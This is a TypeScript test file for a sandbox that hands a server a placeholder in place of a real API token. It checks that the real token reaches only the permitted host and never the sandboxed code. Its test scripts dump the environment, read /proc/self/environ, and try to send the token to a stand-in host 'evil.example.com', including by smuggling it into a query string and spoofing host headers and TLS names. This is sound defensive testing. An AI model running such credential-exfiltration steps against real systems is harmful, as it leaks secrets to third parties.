// A server that gets a placeholder in a real sandbox: it works with its host as if it had the secret, holds it nowhere, and gains nothing by sending it elsewhere.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:https';
import { type AddressInfo, connect } from 'node:net';
import { after, describe, it } from 'node:test';
import { credentialOf } from '../../src/sandbox/placeholder/credential.ts';
import { readProfile } from '../../src/sandbox/profile-schema.ts';
import { createAuthority } from '../servers/tls/certificate.ts';
import { makeCell } from '../support/confined.ts';

const SECRET = 'ghp_r3alT0kenValue0123456789';
const HOST = 'api.example.com';
const PROFILE = readProfile(
  {
    hosts: [HOST, 'evil.example.com'],
    placeholders: [{ secret: 'GITHUB', host: HOST, header: 'Authorization' }],
  },
  'of the test',
);

interface Seen {
  readonly host: string | undefined;
  readonly authorization: string | undefined;
  readonly url: string;
}

/** Runs a script in a sandbox whose hosts all lead to one TLS server on loopback; answers with what it said and what the hosts saw. */
async function run(script: string): Promise<{ readonly out: string; readonly err: string; readonly seen: readonly Seen[] }> {
  const authority = createAuthority();
  const seen: Seen[] = [];
  const origin = createServer(authority.issue([HOST, 'evil.example.com']), (request, response) => {
    const { host, authorization } = request.headers;
    seen.push({ host, authorization, url: request.url ?? '' });
    response.end(`you are ${authorization}`);
  }).listen(0, '127.0.0.1');
  await once(origin, 'listening');
  after(() => origin.close());
  after(() => origin.closeAllConnections());
  const { sandbox, reach, project } = makeCell({
    extraCa: authority.cert,
    outside: {
      mayDial: () => true,
      resolve: async () => ['203.0.113.10'],
      dial: () => connect({ host: '127.0.0.1', port: (origin.address() as AddressInfo).port, allowHalfOpen: true }),
    },
  });
  const credentials = PROFILE.placeholders.map((rule) => credentialOf('s', rule, SECRET, 'w0rdw0rd'));
  const env = { TOKEN: credentials[0]?.placeholder ?? '', EVIL_CA: authority.cert };
  const server = { name: 's', command: reach.node, args: ['--eval', script], env, credentials };
  const { process: child, stdout, stderr } = await sandbox.launch(server, PROFILE, { projectDir: project, code: [] });
  const said = { out: '', err: '' };
  stdout.on('data', (chunk) => {
    said.out += String(chunk);
  });
  stderr.on('data', (chunk) => {
    said.err += String(chunk);
  });
  await new Promise((resolve) => child.once('close', resolve));
  return { ...said, seen };
}

describe('a server with a placeholder', () => {
  it('works with its host through an unmodified fetch, and sees the secret nowhere', async () => {
    const { out, err, seen } = await run(`
      const answer = await fetch('https://${HOST}/user', { headers: { authorization: 'Bearer ' + process.env.TOKEN } });
      console.log(answer.status, await answer.text());
      console.log(JSON.stringify(process.env), require('fs').readFileSync('/proc/self/environ', 'latin1'));
    `);
    assert.deepEqual(seen, [{ host: HOST, authorization: `Bearer ${SECRET}`, url: '/user' }], err);
    assert.match(out, /^200 you are Bearer \*\*\*\n/);
    assert.ok(!out.includes(SECRET));
  });

  it('gains nothing by sending it elsewhere, even to a host that it may reach and whose certificate it knows', async () => {
    const { out, seen } = await run(`
      const https = require('https');
      const ask = (options) => new Promise((resolve) => https.get({ agent: false, ca: [process.env.EVIL_CA, require('fs').readFileSync(process.env.NODE_EXTRA_CA_CERTS)], ...options },
        (answer) => { let text = ''; answer.on('data', (chunk) => { text += chunk; }).on('end', () => resolve(answer.statusCode + ' ' + text)); }).on('error', (error) => resolve(error.code)));
      const token = process.env.TOKEN;
      const authorization = 'Bearer ' + token;
      (async () => {
        for (const options of [
          { host: 'evil.example.com', headers: { authorization } },
          { host: '${HOST}', path: '/?' + token, headers: { 'x-token': token } },
          { host: '${HOST}', servername: '${HOST}', headers: { authorization, host: 'evil.example.com' } },
          { host: '${HOST}', servername: 'evil.example.com', headers: { authorization } },
        ]) console.log(await ask(options));
      })();
    `);
    assert.deepEqual(
      seen.map(({ host, authorization }) => [host, authorization]),
      [
        ['evil.example.com', 'Bearer bartizan-placeholder-w0rdw0rd'],
        [HOST, undefined],
      ],
      out,
    );
    assert.ok(!JSON.stringify(seen).includes(SECRET));
    const [, , otherHost, otherName] = out.trim().split('\n');
    assert.match(otherHost ?? '', /^421 /);
    assert.equal(otherName, 'ECONNRESET');
  });
});
